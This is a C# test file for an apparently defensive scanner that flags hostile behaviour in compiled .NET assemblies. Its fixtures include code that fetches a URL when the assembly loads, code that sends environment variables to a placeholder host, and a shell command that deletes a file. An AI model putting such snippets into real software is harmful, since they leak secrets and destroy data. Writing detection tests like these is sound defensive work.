using Wellguard.Artifacts;
using Wellguard.Programs;
using Wellguard.Programs.Assemblies;
using Wellguard.Verdicts;
using Xunit;

namespace Wellguard.Tests.Programs.Assemblies;

/// <summary>What libraries of .NET do, told from their instructions.</summary>
public sealed class AssemblyFileTests
{
    public static TheoryData<string, string, string, string> Harmful => HarmfulAssemblies.All;

    public static TheoryData<string, string, string, string> Honest => HonestAssemblies.All;

    /// <summary>Debuggers and tools do this too: a person looks at it.</summary>
    private static readonly string[] Reviewed = ["machine code through a delegate", "code put into another process", "key of the registry"];

    [Theory]
    [MemberData(nameof(Harmful))]
    public async Task What_harms_is_not_allowed_and_is_shown_in_its_file_and_method(string name, string path, string source, string more)
    {
        var report = await CompiledPackage.ScanAsync(CompiledPackage.Pack(path, CompiledPackage.Compile(Path.GetFileNameWithoutExtension(path), source), more));
        var said = string.Join("\n", report.Signals.Select(static signal => $"{signal.Rule} {signal.Severity} {signal.Evidence[0].Text}"));
        Assert.True(report.Verdict.Decision == (Reviewed.Contains(name) ? Decision.Review : Decision.Block), $"{name}: {report.Verdict.Level} {report.Verdict.Score}\n{said}");
        Assert.Contains(report.Signals, signal => signal.Where.Path == path && signal.Evidence.Any(static evidence => evidence.Text.Contains(" in ", StringComparison.Ordinal)));
        Assert.Equal(CompletenessState.Complete, report.Completeness.State);
    }

    [Theory]
    [MemberData(nameof(Honest))]
    public async Task What_does_the_like_for_a_reason_is_allowed(string name, string path, string source, string more)
    {
        var report = await CompiledPackage.ScanAsync(CompiledPackage.Pack(path, CompiledPackage.Compile(Path.GetFileNameWithoutExtension(path), source), more));
        Assert.True(report.Verdict.Decision == Decision.Allow, $"{name}: {report.Verdict.Level} {report.Verdict.Score}\n" + string.Join("\n", report.Signals.Select(static signal => $"{signal.Rule} {signal.Severity} {signal.Evidence[0].Text}")));
        Assert.Equal(CompletenessState.Complete, report.Completeness.State);
    }

    [Fact]
    public async Task Symbols_inside_give_line_and_column()
    {
        const string Source = """
            using System.Net;
            public static class Start
            {
                [System.Runtime.CompilerServices.ModuleInitializer] internal static void Run()
                {
                    new WebClient().DownloadString("http://files.example.invalid/list.txt");
                }
            }
            """;
        var report = await CompiledPackage.ScanAsync(CompiledPackage.Pack("lib/net8.0/Symbols.dll", CompiledPackage.Compile("Symbols", Source, symbols: true)));
        var signal = report.Signals.First(static signal => signal.Rule == "content/fetches-while-loaded");
        Assert.Equal(("lib/net8.0/Symbols.dll", 6, 9), (signal.Where.Path, signal.Where.Line, signal.Where.Column));
        Assert.Contains("in Start.Run, Symbols.cs", signal.Evidence[0].Text, StringComparison.Ordinal);
        Assert.Equal("runs when the assembly is loaded", signal.Trigger);
    }

    [Fact]
    public void What_a_command_does_is_told_with_the_method_that_gives_it()
    {
        var programs = Read(CompiledPackage.Compile("Steps", """public static class A { public static void B() { System.Diagnostics.Process.Start("/bin/sh", "-c \"rm /data/marker\""); } }"""));
        var step = Assert.Single(Assert.Single(programs).Effects);
        Assert.Equal(EffectKind.Interpret, step.Kind);
        Assert.Contains("in A.B, IL_", step.Command, StringComparison.Ordinal);
        Assert.Contains(step.Steps, static inner => inner.Kind == EffectKind.Interpret || inner.Kind == EffectKind.Delete);
    }

    [Fact]
    public void Branches_and_loops_lose_nothing_on_the_way()
    {
        const string Source = """
            using System; using System.Net.Http; using System.Text;
            public static class A
            {
                public static void B(bool c, int n)
                {
                    var host = "collect";
                    if (c) { host += ".example"; } else { host += ".invalid"; }
                    var text = new StringBuilder();
                    for (var i = 0; i < n; i++) { text.Append(Environment.GetEnvironmentVariables().Count); }
                    new HttpClient().PostAsync("https://a.example.invalid/" + host, new StringContent(text.ToString()));
                }
            }
            """;
        var sent = Assert.Single(Read(CompiledPackage.Compile("Branches", Source)).SelectMany(static program => program.Effects), static effect => effect.Kind == EffectKind.Send && effect.Origin == "environment");
        Assert.StartsWith("https://a.example.invalid/collect", sent.Object, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("a loop without end", "public static void B() { var x = 0; while (true) { x ^= 7; if (x == 1000000007) { System.Diagnostics.Process.Start(\"/bin/echo\"); } } }")]
    [InlineData("recursion", "public static void B() { C(1); } static void C(int n) { System.Diagnostics.Process.Start(\"/bin/echo\"); C(n + 1); C(n + 2); }")]
    [InlineData("texts that double", "public static void B() { var s = \"a\"; for (var i = 0; i < 64; i++) { s += s; } System.Diagnostics.Process.Start(s); }")]
    [InlineData("a large array", "public static void B() { var b = new byte[int.MaxValue]; b[0] = 1; System.IO.File.WriteAllBytes(\"x\", b); }")]
    public void Hostile_methods_end_in_time(string name, string method)
    {
        var clock = System.Diagnostics.Stopwatch.StartNew();
        Read(CompiledPackage.Compile("Hostile", "public static class A { " + method + " }"));
        Assert.True(clock.Elapsed < TimeSpan.FromSeconds(20), $"{name}: {clock.Elapsed}");
    }

    [Fact]
    public void Damaged_assemblies_never_throw()
    {
        var whole = CompiledPackage.Compile("Damaged", HarmfulAssemblies.All.ToArray()[^1].Data.Item3);
        var random = new Random(7);
        for (var i = 0; i < 300; i++)
        {
            var bytes = whole.ToArray();
            for (var k = 0; k < 1 + (i % 8); k++)
            {
                bytes[random.Next(64, bytes.Length)] = (byte)random.Next(256);
            }

            Read(bytes);
            Read(whole[..random.Next(whole.Length)]);
        }
    }

    [Fact]
    public void Native_programs_are_no_assemblies()
    {
        var native = new byte[4096];
        "MZ"u8.CopyTo(native);
        native[0x3c] = 0x80;
        "PE\0\0"u8.CopyTo(native.AsSpan(0x80));
        Assert.Empty(Read(native));
        Assert.Empty(Read(new byte[600]));
    }

    [Theory]
    [InlineData("lib/net8.0/A.dll", Need.Content)]
    [InlineData("tools/A.EXE", Need.Content)]
    [InlineData("app/sdk/A.dll", Need.Content)]
    [InlineData("usr/share/dotnet/shared/Microsoft.NETCore.App/10.0.0/System.Net.dll", Need.Nothing)]
    [InlineData("lib/net8.0/A.xml", Need.Nothing)]
    public void Assemblies_are_read_but_those_of_the_runtime_in_an_image(string path, Need need) => Assert.Equal(need, new AssemblyFile().Wants(new Entry(path, EntryType.File, 0x1A4, 4096)));

    private static List<CodeFile> Read(byte[] bytes)
    {
        var programs = new List<CodeFile>();
        new AssemblyFile().Read(new FileContent { Entry = new Entry("A.dll", EntryType.File, 0x1A4, bytes.Length), Kind = FileKind.Other, Bytes = bytes }, programs);
        return programs;
    }
}
